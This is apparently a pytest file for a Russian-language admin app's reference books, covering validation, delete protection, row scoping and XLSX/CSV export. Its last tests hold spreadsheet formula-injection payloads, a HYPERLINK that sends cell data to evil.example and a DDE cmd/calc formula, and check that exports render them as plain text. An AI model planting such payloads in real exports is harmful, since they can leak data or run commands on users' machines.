"""Reference books: generated screens and APIs refuse bad input with a Russian
message and save nothing, refuse to delete rows other rows use, and export what
the list shows (filters and scope included) to XLSX and CSV."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from models import (
    BaseDepartment,
    Colour,
    Currency,
    Department,
    Discount,
    ExchangeRate,
    RateType,
    Tax,
)
from tests.support import make_role, make_user, unit


@pytest.fixture
def admin(login):
    return login("admin")


def _count(session, model, *where):
    session.expire_all()
    return session.scalar(select(func.count()).select_from(model).where(*where))


def _message(response) -> str:
    return response.get_json()["message"]


def test_duplicate_code_is_refused_in_russian(session, admin):
    session.add(Tax(code="NDS-T", name="НДС тест", rate=Decimal("20")))
    session.commit()
    response = admin.post("/api/v1/taxes/", json={"code": "NDS-T", "name": "Ещё", "rate": 10})
    assert response.status_code == 400
    assert "уже занято" in _message(response)
    assert _count(session, Tax, Tax.code == "NDS-T") == 1
    page = admin.post("/taxview/add", data={"code": "NDS-T", "name": "Ещё", "rate": "10",
                                           "active": "y"}, follow_redirects=True)
    assert page.status_code == 200
    assert "Уже существует" in page.get_data(as_text=True)
    assert _count(session, Tax, Tax.code == "NDS-T") == 1


def test_rates_and_percentages_must_make_sense(session, admin):
    rub = Currency(code="XTS", name="Тестовая валюта")
    cbr = RateType(code="T-CBR", name="ЦБ тест")
    session.add_all([rub, cbr])
    session.commit()
    rate = {"currency": rub.id, "rate_type": cbr.id, "on_date": "2026-03-01", "value": "-1"}
    assert "больше нуля" in _message(admin.post("/api/v1/exchangerates/", json=rate))
    assert admin.post("/api/v1/exchangerates/", json={**rate, "value": "91.5"}).status_code == 201
    again = admin.post("/api/v1/exchangerates/", json={**rate, "value": "92"})
    assert again.status_code == 400 and "уже есть" in _message(again)
    assert _count(session, ExchangeRate, ExchangeRate.currency_id == rub.id) == 1
    assert "от 0 до 100" in _message(admin.post("/api/v1/taxes/", json={
        "code": "T-BAD", "name": "Плохой", "rate": 150}))
    both = {"code": "D-T", "name": "Скидка", "kind": "discount", "percent": "5",
            "amount": "100", "valid_from": "2026-01-01"}
    assert "либо процент, либо сумму" in _message(admin.post("/api/v1/discounts/", json=both))
    backwards = {**both, "amount": None, "valid_to": "2025-01-01"}
    assert "раньше даты начала" in _message(admin.post("/api/v1/discounts/", json=backwards))
    assert _count(session, Discount, Discount.code == "D-T") == 0


def test_colour_is_validated_and_shown_as_a_swatch(session, admin):
    bad = admin.post("/api/v1/colours/", json={"code": "C-T", "name": "Синий", "hex": "blue"})
    assert "#RRGGBB" in _message(bad)
    ok = admin.post("/api/v1/colours/", json={"code": "C-T", "name": "Синий", "hex": "#1e90ff"})
    assert ok.status_code == 201
    colour = session.scalar(select(Colour).where(Colour.code == "C-T"))
    assert colour.hex == "#1E90FF"
    page = admin.get(f"/colourview/show/{colour.id}").get_data(as_text=True)
    assert "background:#1E90FF" in page


def test_a_row_in_use_cannot_be_deleted(session, admin):
    base = BaseDepartment(code="B-T", name="Базовое тест")
    dep = Department(code="DEP-T", name="Отделение тест", branch=unit(session, "MSK-TVR"),
                     base_department=base)
    session.add_all([base, dep])
    session.commit()
    response = admin.post(f"/basedepartmentview/delete/{base.id}", follow_redirects=True)
    assert response.status_code == 200
    assert "Нельзя удалить «Базовое тест»" in response.get_data(as_text=True)
    assert "Отделения (1)" in response.get_data(as_text=True)
    api = admin.delete(f"/api/v1/basedepartments/{base.id}")
    assert api.status_code == 400 and "ссылаются" in _message(api)
    assert _count(session, BaseDepartment, BaseDepartment.id == base.id) == 1
    session.delete(session.get(Department, dep.id))
    session.commit()
    assert admin.delete(f"/api/v1/basedepartments/{base.id}").status_code == 200


def test_department_branch_must_be_in_scope(session, login):
    role = make_role(session, "Справочники филиала", {"refbook.departments": "delete",
                                                      "scope.data": "own_subtree"})
    make_user(session, "deps", roles=[role], home_unit=unit(session, "MSK-TVR"))
    client = login("deps")
    base = BaseDepartment(code="B-T2", name="Базовое 2")
    session.add(base)
    session.commit()
    payload = {"code": "DEP-X", "name": "Чужое", "base_department": base.id,
               "branch": unit(session, "SPB-NEV").id, "active": True}
    assert client.post("/api/v1/departments/", json=payload).status_code == 400
    payload["branch"] = unit(session, "MSK-TVR").id
    assert client.post("/api/v1/departments/", json=payload).status_code == 201
    form = client.get("/departmentview/add").get_data(as_text=True)
    assert "Филиал «Тверской»" in form and "Филиал «Невский»" not in form
    assert "Терапевтическое отделение" not in form.split('name="branch"')[1].split("</select>")[0]


def test_export_matches_the_filtered_list(session, admin):
    session.add_all([Tax(code="EXP-1", name="Экспорт один", rate=Decimal("10")),
                     Tax(code="EXP-2", name="Экспорт два", rate=Decimal("20")),
                     Tax(code="OTHER", name="Другое", rate=Decimal("0"))])
    session.commit()
    query = "?_flt_2_code=EXP"
    text = admin.get(f"/taxview/export/csv{query}").data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[0][:2] == ["Код", "Наименование"]
    assert {r[0] for r in rows[1:]} == {"EXP-1", "EXP-2"}
    book = load_workbook(io.BytesIO(admin.get(f"/taxview/export/xlsx{query}").data))
    values = list(book.active.values)
    assert values[0][0] == "Код"
    assert {v[0] for v in values[1:]} == {"EXP-1", "EXP-2"}
    assert admin.get("/taxview/export/pdf").status_code == 400


def test_export_keeps_the_row_scope(session, login):
    role = make_role(session, "Выгрузка отделений", {"refbook.departments": "view",
                                                     "scope.data": "own_subtree"})
    make_user(session, "exporter", roles=[role], home_unit=unit(session, "MSK-TVR"))
    base = BaseDepartment(code="B-T3", name="Базовое 3")
    session.add_all([base,
                     Department(code="DEP-OWN", name="Своё", branch=unit(session, "MSK-TVR"),
                                base_department=base),
                     Department(code="DEP-ALIEN", name="Чужое", branch=unit(session, "SPB-NEV"),
                                base_department=base)])
    session.commit()
    text = login("exporter").get("/departmentview/export/csv").data.decode("utf-8-sig")
    assert "DEP-OWN" in text and "DEP-ALIEN" not in text


def test_nothing_answers_500_to_nonsense(admin):
    for url in ("/taxview/show/abc", "/api/v1/taxes/abc", "/taxview/edit/999999",
                "/api/v1/taxes/?q=(((", "/taxview/list/?_oc_TaxView=nonsense"):
        assert admin.get(url).status_code < 500, url
    assert admin.post("/api/v1/taxes/", json={"code": "X"}).status_code in (400, 422)
    assert admin.post("/api/v1/exchangerates/", json={"on_date": "не дата"}).status_code in (
        400, 422)


def test_dates_and_decimals_are_exact(session, admin):
    admin.post("/api/v1/taxes/", json={"code": "DEC-T", "name": "Точность", "rate": "12.34"})
    tax = session.scalar(select(Tax).where(Tax.code == "DEC-T"))
    assert tax.rate == Decimal("12.34")


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1;"Открыть")', "=cmd|' /C calc'!A0",
            "+1+1", "-2+3", "@SUM(A1:A2)"]


def test_exports_write_typed_formulas_as_text(session, admin):
    """Issue 20, item 5: a name typed as a formula is text in XLSX (a string cell, no
    formula) and in CSV (behind an apostrophe); numbers stay numbers."""
    for i, name in enumerate(FORMULAS):
        response = admin.post("/api/v1/taxes/", json={"code": f"INJ-{i}", "name": name,
                                                      "rate": "12.5" if i == 3 else "20"})
        assert response.status_code == 201, response.get_json()
    query = "?_flt_2_code=INJ-"
    raw = admin.get(f"/taxview/export/xlsx{query}").data
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(raw)).active
    by_code = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    for i, name in enumerate(FORMULAS):
        cell = by_code[f"INJ-{i}"][1]
        assert (cell.data_type, cell.value) == ("s", name)
    rates = {row[0].value: row[2].value for row in sheet.iter_rows(min_row=2)}
    assert rates["INJ-3"] == 12.5 and rates["INJ-0"] == 20, "numbers stay numbers"
    text = admin.get(f"/taxview/export/csv{query}").data.decode("utf-8-sig")
    rows = {row[0]: row for row in csv.reader(io.StringIO(text, newline=""), delimiter=";")}
    for i, name in enumerate(FORMULAS):
        assert rows[f"INJ-{i}"][1] == "'" + name
    assert not rows["INJ-3"][2].startswith("'")


def test_a_negative_number_and_a_date_are_not_escaped():
    from views.refbook import _csv

    text = _csv(["A", "B", "C", "D"], [[Decimal("-5"), dt.date(2026, 1, 2), "-x", "\t=1"]])
    assert text.decode("utf-8-sig").splitlines()[1] == "-5;02.01.2026;'-x;'\t=1"
